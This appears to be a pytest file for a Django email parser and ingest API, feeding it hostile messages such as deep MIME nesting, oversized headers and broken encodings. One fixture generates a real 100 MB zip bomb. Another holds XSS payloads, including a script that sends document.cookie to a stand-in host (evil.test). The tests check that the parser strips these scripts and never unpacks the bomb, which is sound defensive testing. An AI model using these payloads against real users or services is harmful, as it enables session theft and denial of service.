"""Hostile mail, built here for real: the parser reads it within its limits and says what it left
out, and every input gets a row, through the API and through manage.py ingest."""

from __future__ import annotations

import base64
import hashlib
import io
import quopri
import random
import zipfile

import pytest
from django.core.management import CommandError, call_command
from rest_framework.test import APIClient

from apps.accounts.models import ApiKey
from apps.inbox.engine import (
    DEFAULT_LIMITS,
    ParseLimits,
    UnparseableMessage,
    parse_envelope,
    parse_message,
)
from apps.inbox.ingest import parse_limits
from apps.inbox.models import Message, MessageStatus

ZIP_BOMB_BYTES = 100 * 1024 * 1024
HEADER_LINE_BYTES = 8 * 1024 * 1024


def nested_multiparts(levels: int = 300) -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\nThe innermost text.\r\n"
    for level in range(levels - 1, 0, -1):
        inner = (b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
                 + inner + b"\r\n--b%d--\r\n" % level)  # fmt: skip
    return (b"From: nest@example.com\r\nSubject: nested\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n--b0\r\n'
            b"Content-Type: text/plain\r\n\r\nThe outer text is read.\r\n--b0\r\n"
            + inner + b"\r\n--b0--\r\n")  # fmt: skip


def many_parts(count: int = 10_000) -> bytes:
    parts = b"".join(
        b"--P\r\nContent-Type: application/octet-stream; name=f%d.bin\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nAAAA\r\n" % i
        for i in range(count)
    )
    return (b"From: parts@example.com\r\nSubject: many parts\r\n"
            b"Content-Type: multipart/mixed; boundary=P\r\n\r\n"
            b"--P\r\nContent-Type: text/plain\r\n\r\nMany attachments follow.\r\n"
            + parts + b"--P--\r\n")  # fmt: skip


def long_header_line() -> bytes:
    return (b"From: Long Header <sender@example.com>\r\nSubject: " + b"A" * HEADER_LINE_BYTES
            + b"\r\nDate: Mon, 02 Mar 2026 09:00:00 +0000\r\n\r\nThe body is still read.\r\n")  # fmt: skip


def broken_base64() -> bytes:
    return (b"From: b64@example.com\r\nSubject: broken base64\r\n"
            b"Content-Type: multipart/mixed; boundary=B\r\n\r\n"
            b"--B\r\nContent-Type: text/plain\r\n\r\nReadable text survives.\r\n"
            b"--B\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            b"!!!not base64***\r\n"
            b'--B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="a.pdf"'
            b"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%=\r\nJVBERi0=x\r\n--B--\r\n")  # fmt: skip


def unknown_charset() -> bytes:
    return (b"From: charset@example.com\r\nSubject: =?x-klingon?q?Qapla=E9?=\r\n"
            b"Content-Type: text/plain; charset=x-klingon\r\n\r\nna\xefve caf\xe9 text\r\n")  # fmt: skip


def zip_bomb() -> bytes:
    """A real zip of 100 MB of zeros, written a megabyte at a time: about 100 KB compressed."""
    archive = io.BytesIO()
    with (
        zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
        bomb.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(ZIP_BOMB_BYTES // (1024 * 1024)):
            member.write(bytes(1024 * 1024))
    return archive.getvalue()


def zip_bomb_message(archive: bytes) -> bytes:
    return (b"From: bomb@example.com\r\nSubject: your invoice\r\n"
            b"Content-Type: multipart/mixed; boundary=Z\r\n\r\n"
            b"--Z\r\nContent-Type: text/plain\r\n\r\nThe invoice is attached.\r\n"
            b'--Z\r\nContent-Type: application/zip; name="bomb.zip"\r\n'
            b'Content-Disposition: attachment; filename="bomb.zip"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(archive) + b"--Z--\r\n")  # fmt: skip


def random_binary() -> bytes:
    return random.Random(20261201).randbytes(256 * 1024)


def script_html() -> bytes:
    # Tags never closed, thousands deep, and one left open at the end: the HTML a sender
    # writes to slow a converter down or slip script text into what is read.
    html = (
        "<html><head><title>t</title><script>alert('head')</script></head><body onload=alert(0)>"
        "<style>p{display:none}</style><p>Your invoice is attached.</p>"
        "<script>document.location='http://evil.test/?c='+document.cookie</script>"
        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">Click me</a>'
        '<iframe src="http://evil.test/">iframe fallback</iframe><noscript>no script</noscript>'
        + "<a b='" * 2000 + "<div>" * 5000 + "Deep but visible." + "</div>" * 5000
        + "<!-- an unclosed comment <p>alert(3)</p> --" + "<p>"
    )  # fmt: skip
    return (b"From: html@example.com\r\nSubject: invoice\r\nContent-Type: text/html; charset=utf-8"
            b"\r\n\r\n" + html.encode())  # fmt: skip


def huge_quoted_printable(decoded_bytes: int = 2 * 1024 * 1024) -> bytes:
    text = b"The long report goes on. " * (decoded_bytes // 25)
    return (b"From: qp@example.com\r\nSubject: report\r\nContent-Type: text/plain\r\n"
            b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quopri.encodestring(text))  # fmt: skip


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb()


@pytest.fixture(scope="module")
def hostile(bomb) -> dict[str, bytes]:
    return {
        "nested-300": nested_multiparts(),
        "parts-10000": many_parts(),
        "header-line-8mb": long_header_line(),
        "broken-base64": broken_base64(),
        "unknown-charset": unknown_charset(),
        "zip-bomb": zip_bomb_message(bomb),
        "random-binary": random_binary(),
        "script-html": script_html(),
        "huge-quoted-printable": huge_quoted_printable(),
    }


def parse(raw: bytes, limits: ParseLimits = DEFAULT_LIMITS):
    return parse_message(raw, max_bytes=len(raw), limits=limits)


def defects_naming(parsed, setting: str) -> list[str]:
    return [d for d in parsed.defects if setting in d]


def test_nesting_past_the_limit_is_not_read_and_the_rest_is(hostile):
    parsed = parse(hostile["nested-300"])
    assert "The outer text is read." in parsed.text
    assert "innermost" not in parsed.text
    [defect] = defects_naming(parsed, "MAILSCORE_MAX_MIME_DEPTH")
    assert "deeper than 50 levels" in defect
    shallow = parse(hostile["nested-300"], ParseLimits(max_mime_depth=400))
    assert "The innermost text." in shallow.text  # the limit is what stopped it


def test_parts_past_the_limit_are_not_read(hostile):
    parsed = parse(hostile["parts-10000"])
    assert parsed.text == "Many attachments follow."
    assert 900 < len(parsed.attachments) < DEFAULT_LIMITS.max_mime_parts
    assert parsed.attachments[0].filename == "f0.bin" and parsed.attachments[0].size == 3
    [defect] = defects_naming(parsed, "MAILSCORE_MAX_MIME_PARTS")
    assert "more than 1,000 MIME parts" in defect
    assert len(parse(hostile["parts-10000"], ParseLimits(max_mime_parts=20_000)).attachments) == (
        10_000
    )


def test_a_header_field_over_the_limit_is_left_out_and_the_rest_is_read(hostile):
    raw = hostile["header-line-8mb"]
    parsed = parse(raw)
    assert parsed.subject == "" and parsed.from_address == "sender@example.com"
    assert parsed.date is not None and parsed.text == "The body is still read."
    [defect] = defects_naming(parsed, "MAILSCORE_MAX_HEADER_BYTES")
    assert "subject (8,388,619 bytes)" in defect
    envelope = parse_envelope(raw, max_bytes=len(raw))
    assert envelope.from_address == "sender@example.com" and envelope.subject == ""


def test_broken_base64_spoils_only_its_own_part(hostile):
    parsed = parse(hostile["broken-base64"])
    assert parsed.text.startswith("Readable text survives.")
    [pdf] = parsed.attachments
    assert pdf.filename == "a.pdf" and pdf.content_type == "application/pdf"
    assert isinstance(pdf.size, int) and isinstance(pdf.sha256, str)


def test_an_unknown_charset_decodes_with_replacement(hostile):
    parsed = parse(hostile["unknown-charset"])
    assert parsed.text.startswith("na") and "caf" in parsed.text and "text" in parsed.text
    assert parsed.subject.startswith("Qapla")


def test_a_zip_bomb_is_measured_and_hashed_never_unpacked(hostile, bomb):
    assert len(bomb) < 1024 * 1024  # 100 MB of zeros, compressed
    parsed = parse(hostile["zip-bomb"])
    [archive] = parsed.attachments
    assert (archive.filename, archive.content_type) == ("bomb.zip", "application/zip")
    assert archive.size == len(bomb) and archive.sha256 == hashlib.sha256(bomb).hexdigest()
    assert not defects_naming(parsed, "MAILSCORE_MAX_DECODED_BYTES")

    small = parse(hostile["zip-bomb"], ParseLimits(max_decoded_bytes=len(bomb) // 2))
    [undecoded] = small.attachments
    assert undecoded.filename == "bomb.zip" and (undecoded.size, undecoded.sha256) == (None, None)
    assert small.text == "The invoice is attached."
    [defect] = defects_naming(small, "MAILSCORE_MAX_DECODED_BYTES")
    assert "1 part(s) were cut or not decoded" in defect


def test_a_huge_decoded_part_is_cut_at_the_decoded_size_limit(hostile):
    limit = 256 * 1024
    parsed = parse(hostile["huge-quoted-printable"], ParseLimits(max_decoded_bytes=limit))
    assert parsed.text.startswith("The long report goes on.")
    assert limit - 100 < len(parsed.text) <= limit
    assert defects_naming(parsed, "MAILSCORE_MAX_DECODED_BYTES")
    assert len(parse(hostile["huge-quoted-printable"]).text) > 2_000_000


def test_random_binary_parses_to_nothing_much(hostile):
    parsed = parse(hostile["random-binary"])
    assert isinstance(parsed.text, str) and parsed.from_address is None
    assert parse_envelope(hostile["random-binary"], max_bytes=1024 * 1024).from_address is None


def test_script_laden_html_leaves_only_what_a_reader_sees(hostile):
    parsed = parse(hostile["script-html"])
    assert parsed.html_only
    for visible in ("Your invoice is attached.", "Click me", "Deep but visible."):
        assert visible in parsed.text
    for hidden in ("alert", "document", "javascript", "onerror", "iframe fallback", "no script",
                   "display", "evil.test"):  # fmt: skip
        assert hidden not in parsed.text


def test_limits_must_be_positive():
    with pytest.raises(ValueError, match="max_mime_depth must be a positive whole number"):
        ParseLimits(max_mime_depth=0)


def test_limits_come_from_the_settings(settings):
    settings.MAILSCORE_MAX_MIME_DEPTH = 7
    settings.MAILSCORE_MAX_DECODED_BYTES = 1234
    limits = parse_limits()
    assert (limits.max_mime_depth, limits.max_decoded_bytes) == (7, 1234)
    assert limits.max_mime_parts == DEFAULT_LIMITS.max_mime_parts


def test_every_corpus_message_parses_under_the_limits(spam_corpus):
    files = [p for p in sorted(spam_corpus.rglob("*")) if p.is_file() and p.name != "README.md"]
    limits = parse_limits()
    refused = []
    for path in files:
        raw = path.read_bytes()
        try:
            parse_message(raw, limits=limits)
            parse_envelope(raw, limits=limits)
        except UnparseableMessage as exc:  # the only error the parser may raise
            refused.append(f"{path.name}: {exc}")
    assert len(files) > 4000 and refused == []


@pytest.mark.django_db
def test_every_hostile_message_gets_a_row_through_the_api(hostile):
    _, key = ApiKey.issue("hostile")
    client = APIClient(HTTP_X_API_KEY=key)
    answers = {}
    for name, raw in hostile.items():
        response = client.post("/api/v1/messages", raw, content_type="message/rfc822")
        answers[name] = response.status_code
        row = Message.objects.get(id=response.json()["id"])
        if response.status_code == 422:
            assert row.status == MessageStatus.FAILED and row.failed_step == "ingest"
            assert "not an RFC 822 message" in response.json()["error"]["message"]
        else:
            assert row.status == MessageStatus.QUEUED and bytes(row.raw) == raw
    assert answers == {name: 422 if name == "random-binary" else 202 for name in hostile}
    assert Message.objects.count() == len(hostile)


@pytest.mark.django_db
def test_ingest_gives_every_hostile_file_a_row(hostile, tmp_path, capsys):
    for name, raw in hostile.items():
        (tmp_path / f"{name}.eml").write_bytes(raw)
    with pytest.raises(CommandError, match="1 inputs could not be ingested"):
        call_command("ingest", str(tmp_path))
    out, err = capsys.readouterr()
    assert f"Stored {len(hostile) - 1} new messages" in out
    assert "random-binary.eml: This is not an RFC 822 message" in err
    rows = {m.source_detail: m for m in Message.objects.filter(source="file")}
    assert set(rows) == {str(tmp_path / f"{name}.eml") for name in hostile}
    refused = rows[str(tmp_path / "random-binary.eml")]
    assert refused.status == MessageStatus.FAILED and bytes(refused.raw) == hostile["random-binary"]
    assert all(m.status == MessageStatus.QUEUED for m in rows.values() if m.id != refused.id)
